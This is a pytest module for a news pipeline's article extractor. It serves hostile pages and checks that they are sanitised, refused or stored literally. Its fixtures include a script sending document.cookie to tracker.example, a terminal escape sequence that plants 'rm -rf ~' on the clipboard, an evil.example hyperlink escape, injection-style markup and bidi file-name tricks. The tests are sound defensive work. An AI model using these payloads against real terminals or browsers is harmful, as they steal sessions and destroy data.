"""Article pages built to hurt: control characters, floods, parser stalls, fake markup.

A feed on 127.0.0.1 (a private host, so its links may be fetched) lists one
hostile page next to three good ones; the real pipeline fetches the feed and
extracts every page in its worker processes. Each test checks what became of
the hostile page (extracted, failed with a reason, or skipped), that the good
pages were all extracted, and that nothing unsafe was stored.
"""

from __future__ import annotations

import time
from dataclasses import replace

import pytest

from briefing.config import Settings
from briefing.models import Article
from briefing.pipeline import RunReport
from briefing.store import Store
from briefing.store import articles as article_store
from briefing.store import feeds as feed_store
from tests.fetch.conftest import fetch

from .conftest import HostileServer, Reply, assert_nothing_unsafe, rss

# One event loop for the module, so the worker pool is shared (see conftest).
pytestmark = pytest.mark.asyncio(loop_scope="session")

HTML = {"Content-Type": "text/html; charset=utf-8"}

# Our own words: three short reports, each a few distinct paragraphs.
REPORTS = {
    "grid": [
        "The energy regulator published the findings of its audit of transmission operators "
        "on Friday, the first review since the grid security rules took effect last year.",
        "Auditors found that most operators had separated their control networks from office "
        "systems, but several still shared maintenance accounts with outside contractors.",
        "The regulator gave the operators ninety days to replace the shared accounts and said "
        "a second round of site visits would begin in the spring.",
    ],
    "patch": [
        "A mail server vendor released an emergency update on Saturday after customers "
        "reported intrusions through a flaw in the web login page.",
        "The company said the flaw let an attacker run commands on the server without a "
        "password, and that it had seen the attacks against a small number of customers.",
        "The national cyber agency told government departments to apply the update within two "
        "days or take the affected servers off the internet.",
    ],
    "treaty": [
        "Negotiators meeting in Vienna agreed on the wording of the data-sharing annex to the "
        "cybercrime treaty late on Saturday after a week of talks.",
        "The annex sets out how police in one country may ask a provider in another for "
        "subscriber records, and which safeguards apply to such requests.",
        "Several digital rights groups said the safeguards were too weak and urged national "
        "parliaments to attach reservations when they ratify the treaty.",
    ],
}


def page(title: str, paragraphs: list[str], extra: str = "") -> bytes:
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (
        "<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'>"
        f"<title>{title}</title></head><body><header><nav><a href='/'>Home</a></nav></header>"
        f"<main><article><h1>{title}</h1>{body}{extra}</article></main>"
        "<footer>Copyright Packet Post</footer></body></html>"
    ).encode()


class PageWorld:
    """A private-host feed with the three good pages and one hostile page."""

    def __init__(self, server: HostileServer, store: Store, settings: Settings) -> None:
        self.server = server
        self.store = store
        self.settings = settings

    def serve(self, hostile: Reply) -> None:
        items = []
        for key, paragraphs in REPORTS.items():
            self.server.routes[f"/good/{key}"] = Reply(200, page(key.title(), paragraphs), HTML)
            items.append(
                {
                    "title": f"Good report: {key}",
                    "link": self.server.url(f"/good/{key}"),
                    "guid": f"good-{key}",
                    "description": f"Teaser for {key}.",
                }
            )
        self.server.routes["/hostile-page"] = hostile
        items.append(
            {
                "title": "Hostile page",
                "link": self.server.url("/hostile-page"),
                "guid": "hostile",
                "description": "The feed's own teaser.",
            }
        )
        self.server.feed("/feed.xml", rss(items, title="Packet Post"))
        feed_store.add(self.store, self.server.url("/feed.xml"))

    async def fetch(self, settings: Settings | None = None) -> RunReport:
        return await fetch(self.store, settings or self.settings)

    async def run(
        self, hostile: Reply, settings: Settings | None = None
    ) -> tuple[RunReport, Article]:
        """Serve `hostile` beside the good pages, fetch, and return the run and its article."""
        self.serve(hostile)
        report = await self.fetch(settings)
        return report, self.hostile()

    async def extracted(self, title: str, paragraphs: list[str]) -> Article:
        """Run with a hostile page built from `paragraphs`; it must come out extracted."""
        _, hostile = await self.run(Reply(200, page(title, paragraphs), HTML))
        assert hostile.extract_status == "ok", hostile.extract_error
        return hostile

    def articles(self) -> dict[str, Article]:
        return {a.guid: a for a in article_store.all_articles(self.store)}

    def hostile(self) -> Article:
        return self.articles()["hostile"]

    def assert_good_extracted(self) -> None:
        stored = self.articles()
        for key, paragraphs in REPORTS.items():
            good = stored[f"good-{key}"]
            assert good.extract_status == "ok", (key, good.extract_error)
            for paragraph in paragraphs:
                assert paragraph in good.text
        assert len(stored) == len(REPORTS) + 1  # nothing stored twice
        assert_nothing_unsafe(self.store)


@pytest.fixture
def pages(server: HostileServer, store: Store, full: Settings) -> PageWorld:
    return PageWorld(server, store, full)


async def test_a_page_with_escape_characters_is_still_extracted(pages: PageWorld) -> None:
    # One ESC makes trafilatura drop a whole page; the worker strips controls first.
    esc = "\x1b"
    paragraphs = [
        f"{esc}[2J{esc}[HThe agency said the breach began with a stolen contractor password.",
        f"Investigators{esc}]52;c;cm0gLXJmIH4K\x07 found the intruders had been inside for weeks.",
        f"{esc}]8;;https://evil.example/\x07The report{esc}]8;;\x07 recommends hardware keys "
        "for every remote administrator account.",
    ]
    report, hostile = await pages.run(
        Reply(200, page(f"{esc}]0;owned{esc}\\Breach report", paragraphs), HTML)
    )
    assert hostile.extract_status == "ok", hostile.extract_error
    assert "The agency said the breach began with a stolen contractor password." in hostile.text
    assert "Investigators found the intruders had been inside for weeks." in hostile.text
    assert "The report recommends hardware keys" in hostile.text
    assert "]52;" not in hostile.text and "]8;;" not in hostile.text
    assert report.extracted == 4
    pages.assert_good_extracted()


async def test_a_page_with_a_nul_byte_is_still_extracted(pages: PageWorld) -> None:
    paragraphs = [
        "The ministry confirmed that the outage\x00 affected payment terminals nationwide.",
        "Engineers restored service after isolating the faulty certificate update.",
        "The central bank said no customer data had been exposed during the incident.",
    ]
    hostile = await pages.extracted("Outage", paragraphs)
    assert "the outage affected payment terminals" in hostile.text
    pages.assert_good_extracted()


async def test_a_20_megabyte_page_is_refused_at_the_page_cap(
    pages: PageWorld, full: Settings
) -> None:
    huge = page("Huge", ["A sentence about nothing in particular. " * 500_000])
    assert len(huge) > 20_000_000
    # The feed cap is 30 MB here: the page cap (5 MB) is what refuses it.
    report, hostile = await pages.run(
        Reply(200, huge, HTML), replace(full, max_response_bytes=30_000_000)
    )
    assert hostile.extract_status == "failed"
    assert "over the 5,000,000-byte cap" in (hostile.extract_error or "")
    assert hostile.summary == "The feed's own teaser."  # the feed's summary is kept
    assert report.extract_failed == 1
    pages.assert_good_extracted()


async def test_a_page_that_stalls_the_extractor_is_stopped_by_the_time_limit(
    pages: PageWorld, full: Settings
) -> None:
    # 100,000 sibling divs keep trafilatura busy for many seconds; the limit is 5 s.
    flood = "<div>x</div>" * 100_000
    start = time.perf_counter()
    report, hostile = await pages.run(
        Reply(200, page("Slow", REPORTS["grid"][:1], extra=flood), HTML),
        replace(full, max_response_bytes=3_000_000),
    )
    assert time.perf_counter() - start < 12
    assert hostile.extract_status == "failed"
    assert hostile.extract_error == "extraction: gave up after 5 s"
    assert report.extract_failed == 1
    pages.assert_good_extracted()


async def test_markup_like_brackets_in_page_text_are_stored_literally(pages: PageWorld) -> None:
    paragraphs = [
        "The advisory quotes the attacker's payload, [@click=app.quit]x[/], word for word.",
        "Analysts said strings such as [bold red]URGENT[/] are common in phishing lures.",
        "The vendor added that a template like {{ user.password }} was never evaluated.",
    ]
    hostile = await pages.extracted("Brackets", paragraphs)
    for paragraph in paragraphs:
        assert paragraph in hostile.text
    pages.assert_good_extracted()


async def test_a_page_of_only_script_and_style_keeps_the_feed_summary(pages: PageWorld) -> None:
    only_code = (
        b"<html><head><style>body{display:none}</style><script>document.write('x')</script>"
        b"</head><body><script>fetch('https://tracker.example/?c='+document.cookie)</script>"
        b"<style>.paywall{position:fixed}</style></body></html>"
    )
    _, hostile = await pages.run(Reply(200, only_code, HTML))
    assert hostile.extract_status == "failed"
    assert hostile.extract_error == "no article text found on the page"
    assert hostile.text == "" and hostile.summary == "The feed's own teaser."
    assert "document.cookie" not in hostile.body
    pages.assert_good_extracted()


async def test_a_page_in_a_bogus_charset_is_decoded_without_harm(pages: PageWorld) -> None:
    paragraphs = [
        "Officials said the caf\xe9 chain had not paid the ransom demanded by the group.",
        "The company restored its ordering system from backups within three days.",
        "Regulators said they were reviewing whether customer card data had been taken.",
    ]
    body = page("Charset", paragraphs).replace(b"charset='utf-8'", b"charset='x-no-such-codec'")
    body = body.replace("caf\xe9".encode(), b"caf\xe9\xff\xfe")  # latin-1 byte, then junk
    _, hostile = await pages.run(Reply(200, body, {"Content-Type": "text/html"}))
    assert hostile.extract_status == "ok", hostile.extract_error
    assert "had not paid the ransom demanded by the group" in hostile.text
    hostile.text.encode("utf-8")
    pages.assert_good_extracted()


async def test_a_page_with_bidi_overrides_is_extracted_without_them(pages: PageWorld) -> None:
    paragraphs = [
        "The attachment was named \u202egpj.exe\u202c to look like a photograph.",
        "Security teams said the \u2066isolate\u2069 trick also hides text in code reviews.",
        "Mail filters were updated to flag file names that mix writing directions.",
    ]
    hostile = await pages.extracted("Bidi", paragraphs)
    assert "The attachment was named gpj.exe to look like a photograph." in hostile.text
    assert "the isolate trick" in hostile.text
    pages.assert_good_extracted()
